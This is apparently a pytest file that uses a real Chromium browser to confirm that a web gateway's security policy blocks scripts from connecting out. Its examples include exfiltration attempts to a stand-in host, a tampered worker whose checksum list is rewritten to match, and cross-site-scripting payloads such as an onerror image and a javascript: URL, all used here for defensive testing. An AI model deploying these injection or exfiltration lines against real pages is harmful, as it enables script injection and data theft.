"""What an attacker meets: a script that got into the page, or into the worker, can tell nobody.

Asked of a real browser, as only it enforces the policies that are sent.
"""

import hashlib
from collections.abc import Iterator
from shutil import copytree

import pytest

from tests.gateway.checker.chromium import Page, chromium
from tests.gateway.checker.served import Served, require_built, serving

ELSEWHERE = "https://elsewhere.example/?taken=1"
ADDRESSES = ("/check/", ELSEWHERE)
WAYS = {
    "fetch": "return fetch(arguments[0]).then(() => 'connected', () => 'refused')",
    "image": (
        "const image = new Image(); image.src = arguments[0];"
        "return new Promise((done) => {"
        "  image.onload = () => done('connected'); image.onerror = () => done('refused') })"
    ),
    "XMLHttpRequest": (
        "const request = new XMLHttpRequest(); request.open('GET', arguments[0]);"
        "return new Promise((done) => { request.onerror = () => done('refused');"
        "  request.onload = () => done('connected'); request.send() })"
    ),
    "frame": (
        "const frame = document.createElement('iframe'); frame.src = arguments[0];"
        "return new Promise((done) => { document.addEventListener('securitypolicyviolation',"
        "  () => done('refused'), { once: true }); document.body.append(frame) })"
    ),
    "form": (
        "const form = document.createElement('form'); form.action = arguments[0];"
        "return new Promise((done) => { document.addEventListener('securitypolicyviolation',"
        "  () => done('refused'), { once: true }); document.body.append(form); form.submit() })"
    ),
}
# What the worker of a hostile build would try, before our own code has a say.
PROBE = """
const { XMLHttpRequest: Request, WebSocket: Socket } = self;
const tried = { fetch: self.fetch.bind(self), Request, Socket };
self.addEventListener("message", async ({ data }) => {
  if (data.probe === undefined) return;
  const said = {};
  said.fetch = await tried.fetch(data.probe).then(() => "connected", () => "refused");
  try {
    const request = new tried.Request();
    request.open("GET", data.probe, false);
    request.send();
    said.request = "connected";
  } catch { said.request = "refused"; }
  said.socket = await new Promise((done) => {
    try {
      const socket = new tried.Socket(String(new URL(data.probe, location)).replace("http", "ws"));
      socket.onopen = () => done("connected");
      socket.onerror = () => done("refused");
    } catch { done("refused"); }
  });
  postMessage(said);
});
"""


@pytest.fixture(scope="module")
def page(web: Served, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """A page to be tampered with."""
    with chromium(web.url, tmp_path_factory.mktemp("tampered")) as opened:
        yield opened


@pytest.fixture(scope="module")
def hostile_build(
    checker_environ: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Served]:
    """A page whose worker tries to connect, and whose list of digests says that this is right."""
    folder = tmp_path_factory.mktemp("hostile") / "built"
    copytree(require_built(), folder)
    [worker] = folder.glob("*/worker.js")
    worker.write_text(worker.read_text() + PROBE)
    name = str(worker.relative_to(folder))
    lines = (folder / "SHA256SUMS").read_text().splitlines()
    kept = [line for line in lines if not line.endswith(name)]
    kept.append(f"{hashlib.sha256(worker.read_bytes()).hexdigest()}  {name}")
    (folder / "SHA256SUMS").write_text("\n".join(kept) + "\n")
    with serving(checker_environ, folder.parent, folder) as running:
        yield running


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("way", WAYS)
def test_a_script_in_the_page_connects_nowhere(
    page: Page, web: Served, way: str, address: str
) -> None:
    before = web.requests()
    assert page.run(WAYS[way], address) == "refused"
    assert web.requests() == before


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_script_in_the_worker_connects_nowhere(
    page: Page, hostile_build: Served, address: str
) -> None:
    page.in_a_new_tab()
    page.driver.get(f"{hostile_build.url}/check/")
    before = hostile_build.settled()
    said = page.run(
        "const base = document.querySelector('script[src]').src;"
        "const worker = new Worker(new URL('worker.js', base), { type: 'module' });"
        "return new Promise((done) => {"
        "  worker.onmessage = ({ data }) => data.fetch && done(data);"
        "  worker.postMessage({ probe: arguments[0] }) })",
        address,
    )
    page.back_to_the_first_tab()
    assert said == {"fetch": "refused", "request": "refused", "socket": "refused"}
    assert hostile_build.requests() == before


@pytest.mark.parametrize(
    "script",
    [
        "const own = document.createElement('script'); own.textContent = 'taken = true';"
        "document.body.append(own)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"taken = true\">')",
        "setTimeout(() => eval('taken = true'))",
        "setTimeout('taken = true')",
        "location.href = 'javascript:taken = true'",
    ],
)
def test_no_script_but_ours_runs(page: Page, script: str) -> None:
    page.run("window.taken = false")
    page.run(script)
    assert page.run("return new Promise((done) => setTimeout(() => done(taken), 100))") is False
